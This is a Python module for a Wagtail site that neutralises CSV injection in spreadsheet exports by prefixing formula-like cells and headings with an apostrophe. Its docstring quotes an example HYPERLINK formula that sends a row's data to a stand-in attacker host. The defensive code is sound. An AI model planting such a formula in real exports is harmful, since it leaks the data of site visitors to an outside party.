"""Spreadsheet cells that stay text, for every CSV this site writes.

Excel, LibreOffice Calc and Google Sheets read a CSV cell that starts with
"=", "+", "-" or "@", and in some versions a tab or a carriage return, as a
formula. A visitor's ``=HYPERLINK("http://evil.example/?"&A1,"Klick")`` in a
form answer would then be a live link, sending the row to another site, when
an editor opens the export. As OWASP recommends ("CSV Injection"), such a
cell gets a leading apostrophe: spreadsheets show it as text, and a reader can
still see exactly what was sent.

A plain number ("-12", "+3", "-1,5", "0.25") can run nothing, so it is left
as it is and stays a number in the spreadsheet. That is the one exception
made to OWASP's list; anything more, such as "-1+2" or "+49 3445 7030", gets
the apostrophe.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)\Z")


def text_cell(value):
    """``value`` as a CSV cell no spreadsheet runs as a formula."""
    formula_like = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    if formula_like and not PLAIN_NUMBER.match(value):
        return f"'{value}"
    return value


class TextCellsExportMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin``: CSV cells that stay text.

    List it before the view's Wagtail base class. Each value goes through
    ``text_cell`` after Wagtail's own preprocessing (lists joined, dates kept),
    and so does each heading (a form's field labels are written by editors).
    XLSX values need nothing, since Wagtail stores formula-like values there as
    text; its headings it appends as plain strings, which openpyxl would turn
    into formulas, so they get the apostrophe in both formats.
    """

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return text_cell(value)
        return value

    def get_heading(self, queryset, field):
        return text_cell(super().get_heading(queryset, field))
